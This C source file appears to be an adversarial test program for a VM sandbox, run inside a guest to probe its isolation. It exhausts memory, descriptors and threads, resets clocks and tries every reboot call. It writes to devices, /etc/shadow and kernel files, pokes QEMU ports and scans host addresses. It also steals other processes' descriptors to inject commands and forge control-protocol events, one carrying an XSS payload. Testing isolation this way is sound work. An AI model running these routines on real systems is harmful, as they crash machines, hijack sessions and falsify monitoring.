// Attacks of a hostile tool that need system calls.   attack NAME [VARIANT]   It runs in a guest, never on a host.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/reboot.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char nonce[256];
static char block[1 << 20];

static long available_kib(void) {
    FILE *meminfo = fopen("/proc/meminfo", "r");
    char line[200];
    long kib = 0;
    while (meminfo && fgets(line, sizeof line, meminfo))
        if (sscanf(line, "MemAvailable: %ld", &kib) == 1) break;
    if (meminfo) fclose(meminfo);
    return kib;
}

// Long names in the home folder, then shared memory segments that no process owns, until almost no memory is left.
static void sysv(int files) {
    char name[300];
    if (chdir(getenv("HOME"))) perror("HOME");
    for (int i = 0; i < files; i++) {
        memset(name, 'n', 240);
        sprintf(name + 240, "%08d", i);
        int file = open(name, O_CREAT | O_WRONLY, 0600);
        if (file < 0) break;
        close(file);
    }
    for (int i = 0; i < 4096 && available_kib() > 3000; i++) {
        int id = shmget(IPC_PRIVATE, sizeof block, IPC_CREAT | 0600);
        if (id < 0) break;
        char *at = shmat(id, 0, 0);
        if (at == (void *)-1) break;
        memset(at, 1, sizeof block);
        shmdt(at);
    }
}

// Opens descriptors of several kinds until none is left, in many processes.
static void descriptors(void) {
    struct rlimit most;
    getrlimit(RLIMIT_NOFILE, &most);
    most.rlim_cur = most.rlim_max;
    setrlimit(RLIMIT_NOFILE, &most);
    for (int child = 0; child < 16; child++) {
        if (fork()) continue;
        int pair[2], full;
        while (!pipe2(pair, O_NONBLOCK)) {
            fcntl(pair[1], F_SETPIPE_SZ, 1 << 20);
            while (write(pair[1], block, sizeof block) > 0) {}
        }
        while ((full = open("/dev/null", O_RDONLY)) >= 0) {}
        sleep(2);
        _exit(0);
    }
    while (wait(0) > 0) {}
}

static void set_clock(void) {
    struct timespec past = {.tv_sec = 1};
    struct timeval day = {.tv_sec = 2000000000};
    struct timex fast = {.modes = ADJ_TICK | ADJ_OFFSET, .tick = 11000, .offset = 500000};
    for (int clock = 0; clock < 12; clock++) clock_settime(clock, &past);
    settimeofday(&day, 0);
    adjtimex(&fast);
}

// Ends the guest by every documented call.
static void end_guest(void) {
    int commands[] = {LINUX_REBOOT_CMD_RESTART, LINUX_REBOOT_CMD_HALT, LINUX_REBOOT_CMD_POWER_OFF,
                      LINUX_REBOOT_CMD_KEXEC, LINUX_REBOOT_CMD_CAD_ON};
    for (unsigned i = 0; i < sizeof commands / sizeof *commands; i++)
        syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, commands[i], "x");
    for (int signal = 1; signal <= 64; signal++) kill(1, signal);
    syscall(SYS_kexec_load, 0, 0, 0, 0);
    syscall(SYS_init_module, block, sizeof block, "");
    syscall(SYS_swapon, "/dev/vda", 0);
}

static void look_at(const char *path) {
    int file = open(path, O_RDWR | O_NONBLOCK);
    if (file < 0) file = open(path, O_RDONLY | O_NONBLOCK);
    if (file < 0) return;
    if (read(file, block, 4096) > 0) printf("read %s\n", path);
    if (pwrite(file, "forged\n", 7, 0) > 0) printf("wrote %s\n", path);
    void *at = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (at != MAP_FAILED) printf("mapped %s\n", path);
    char byte = 'q';
    ioctl(file, TIOCSTI, &byte);
    close(file);
}

static void devices(void) {
    DIR *dev = opendir("/dev");
    struct dirent *entry;
    char path[300];
    while (dev && (entry = readdir(dev))) {
        snprintf(path, sizeof path, "/dev/%s", entry->d_name);
        if (strcmp(entry->d_name, "null") && strcmp(entry->d_name, "zero")) look_at(path);
    }
    for (const char **path = (const char *[]){"/proc/kcore", "/proc/kmsg", "/proc/1/mem", "/proc/sysrq-trigger",
             "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/debug", "/proc/1/environ",
             "/sys/power/state", "/sys/fs/cgroup/job/memory.max", "/sys/fs/cgroup/cgroup.procs",
             "/sys/firmware/qemu_fw_cfg/by_name", "/proc/acpi/wakeup", "/etc/shadow", 0}; *path; path++)
        look_at(*path);
}

// The ports of QEMU's devices: panic, exit, power management, firmware configuration, reset.
static void ports(void) {
    if (iopl(3)) perror("iopl");
    if (ioperm(0, 1024, 1)) return;
    outb(1, 0x505);
    outb(1, 0x501);
    outl(0, 0xf4);
    outw(0x19, 0x510);
    for (int i = 0; i < 64; i++) inb(0x511);
    outw(0x2000, 0x604);
    outw(0x2000, 0xb004);
    outb(0xfe, 0x64);
    outb(6, 0xcf9);
}

static void sockets(void) {
    for (unsigned cid = 0; cid < 4; cid++) {
        struct sockaddr_vm to = {.svm_family = AF_VSOCK, .svm_cid = cid, .svm_port = 1024};
        int host = socket(AF_VSOCK, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (host >= 0 && !connect(host, (void *)&to, sizeof to)) printf("connected to vsock %u\n", cid);
    }
    const char *places[] = {"\x0a\0\2\2", "\x0a\0\2\3", "\x7f\0\0\1"};
    for (int i = 0; i < 3; i++)
        for (int port = 1; port < 1024; port += port < 30 ? 1 : 111) {
            struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
            memcpy(&to.sin_addr, places[i], 4);
            int host = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
            connect(host, (void *)&to, sizeof to);
            close(host);
        }
    // A forged announcement of a device, as the kernel sends them.
    struct sockaddr_nl group = {.nl_family = AF_NETLINK, .nl_groups = 1};
    const char event[] = "add@/devices/forged\0ACTION=add\0SUBSYSTEM=virtio-ports\0";
    int announcements = socket(AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT);
    sendto(announcements, event, sizeof event, 0, (void *)&group, sizeof group);
    for (int family = 0; family < 46; family++)
        for (int type = 1; type < 7; type++) socket(family, type, 0);
}

static void *wait_long(void *unused) {
    sleep(20);
    return unused;
}

static void threads(void) {
    for (int child = 0; child < 64; child++) {
        if (fork()) continue;
        pthread_t thread;
        pthread_attr_t small;
        pthread_attr_init(&small);
        pthread_attr_setstacksize(&small, 16384);
        while (!pthread_create(&thread, &small, wait_long, 0)) {}
        sleep(3);
        _exit(0);
    }
    sleep(3);
}

static void dump_core(void) {
    struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_CORE, &all);
    size_t size = 300 << 20;
    memset(malloc(size), 1, size);
    abort();
}

// Random system calls with random arguments, in children that are repeated until the time is over.
static void random_calls(unsigned seed, int seconds) {
    time_t end = time(0) + seconds;
    while (time(0) < end) {
        seed = seed * 1103515245 + 12345;
        pid_t child = fork();
        if (child < 0) continue;
        if (!child) {
            alarm(2);
            srand(seed);
            for (int i = 0; i < 3000; i++) {
                long arguments[6];
                for (int a = 0; a < 6; a++) {
                    long odd[] = {0, -1, (long)block, rand() % 64, rand(), 1L << rand() % 64, 4096};
                    arguments[a] = odd[rand() % 7];
                }
                int number = rand() % 460;
                // Without calls that only end or stop this process.
                if (number == SYS_exit || number == SYS_exit_group || number == SYS_pause || number == SYS_kill) continue;
                syscall(number, arguments[0], arguments[1], arguments[2], arguments[3], arguments[4], arguments[5]);
            }
            _exit(0);
        }
        waitpid(child, 0, 0);
    }
}

// Writes lines of the control protocol to a descriptor.
static void forge_on(int to, const char *kind) {
    const char *event = 0;
    if (!strcmp(kind, "ended"))
        event = "\"event\":\"ended\",\"exit\":{\"code\":0},\"memory_kib\":1,\"oom_kills\":0,\"left_behind\":0";
    if (!strcmp(kind, "code"))
        event = "\"event\":\"ended\",\"exit\":{\"code\":-2147483648},\"memory_kib\":1,\"oom_kills\":0,\"left_behind\":0";
    if (!strcmp(kind, "signal"))
        event = "\"event\":\"ended\",\"exit\":{\"signal\":65},\"memory_kib\":1,\"oom_kills\":0,\"left_behind\":0";
    if (!strcmp(kind, "memory"))
        event = "\"event\":\"ended\",\"exit\":{\"code\":0},\"memory_kib\":18446744073709551615,"
                "\"io_wait_ms\":18446744073709551615,\"oom_kills\":18446744073709551615,\"left_behind\":1";
    if (!strcmp(kind, "failed"))
        event = "\"event\":\"failed\",\"reason\":\"x\\u001b[2J\\u001b]0;title\\u0007 <img src=x onerror=alert(1)>\"";
    if (!strcmp(kind, "prepared")) event = "\"event\":\"prepared\"";
    if (!strcmp(kind, "started")) event = "\"event\":\"started\"";
    if (!strcmp(kind, "lost")) event = "\"event\":\"lost\"";
    if (!strcmp(kind, "drained"))
        event = "\"event\":\"drained\",\"stdout_bytes\":18446744073709551615,\"stderr_bytes\":1,\"written\":[\"/x\"]";
    if (!strcmp(kind, "ready"))
        event = "\"event\":\"ready\",\"kernel\":\"x\",\"cpu_flags\":[],\"memory_kib\":1";
    if (event) dprintf(to, "{\"nonce\":\"%s\",%s}\n", nonce, event);
    if (!strcmp(kind, "samples"))
        for (int i = 0; i < 50000; i++)
            dprintf(to, "{\"nonce\":\"%s\",\"event\":\"sample\",\"memory_kib\":%d,\"cpu_ms\":18446744073709551615,"
                        "\"io_wait_ms\":1}\n", nonce, i);
    if (!strcmp(kind, "long") || !strcmp(kind, "bytes") || !strcmp(kind, "nested")) {
        memset(block, *kind == 'l' ? 'x' : *kind == 'n' ? '[' : 0xff, sizeof block);
        for (int i = 0; i < 3; i++) if (write(to, block, sizeof block) < 0) break;
        if (write(to, "\n", 1) < 0) perror("write");
    }
}

// Takes descriptors of other processes of this user, among them the control session over ssh, and uses them.
static void forge(const char *kind) {
    DIR *tmp = opendir("/tmp");
    struct dirent *entry;
    while (tmp && (entry = readdir(tmp)))
        if (!strncmp(entry->d_name, "mcc-", 4)) snprintf(nonce, sizeof nonce, "%s", entry->d_name + 4);
    DIR *proc = opendir("/proc");
    while (proc && (entry = readdir(proc))) {
        int process = atoi(entry->d_name);
        if (process <= 0 || process == getpid() || process == getppid()) continue;
        char path[64], command[100] = {0};
        snprintf(path, sizeof path, "/proc/%d/cmdline", process);
        int file = open(path, O_RDONLY);
        if (file < 0 || read(file, command, 99) <= 0) continue;
        close(file);
        int is_control = !memcmp(command, "bash\0-s", 7);
        int handle = syscall(SYS_pidfd_open, process, 0);
        if (!strcmp(kind, "ptrace")) {
            struct iovec here = {block, 4096}, there = {(void *)0x400000, 4096};
            if (process_vm_readv(process, &here, 1, &there, 1, 0) > 0) printf("read the memory of %d\n", process);
            if (!ptrace(PTRACE_SEIZE, process, 0, 0)) printf("traces %d\n", process);
            continue;
        }
        if (!strcmp(kind, "stop") && is_control) kill(process, SIGSTOP);
        if (!strcmp(kind, "kill") && is_control) kill(process, SIGKILL);
        for (int number = 0; number < 12; number++) {
            int taken = syscall(SYS_pidfd_getfd, handle, number, 0);
            if (taken < 0) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", process, number);
                taken = open(path, O_RDWR | O_NONBLOCK);
            }
            if (taken < 0) continue;
            printf("took descriptor %d of %d\n", number, process);
            if (!strcmp(kind, "errors")) {
                // Only the log of the session, not the tool's own stderr.
                if (number != 2 || !is_control) continue;
                memset(block, 'E', sizeof block);
                for (int i = 0; i < 60; i++) if (write(taken, block, sizeof block) < 0) break;
            } else if (!strcmp(kind, "input") && number == 0) {
                if (write(taken, "exit 0\n", 7) < 0 && read(taken, block, 4096) < 0) continue;
            } else if (!strcmp(kind, "shutdown")) {
                shutdown(taken, SHUT_RDWR);
            } else if (number != 0 && (is_control || number > 2)) {
                forge_on(taken, kind);
            }
            close(taken);
        }
    }
}

int main(int count, char **words) {
    if (count < 2) return 2;
    const char *name = words[1];
    int variant = count > 2 ? atoi(words[2]) : 0;
    setvbuf(stdout, 0, _IOLBF, 0);
    if (!strcmp(name, "sysv")) sysv(variant);
    else if (!strcmp(name, "descriptors")) descriptors();
    else if (!strcmp(name, "clock")) set_clock();
    else if (!strcmp(name, "end")) end_guest();
    else if (!strcmp(name, "devices")) devices();
    else if (!strcmp(name, "ports")) ports();
    else if (!strcmp(name, "sockets")) sockets();
    else if (!strcmp(name, "threads")) threads();
    else if (!strcmp(name, "core")) dump_core();
    else if (!strcmp(name, "calls")) random_calls(variant, 8);
    else if (!strcmp(name, "forge")) forge(count > 2 ? words[2] : "ended");
    else return 2;
    return 0;
}
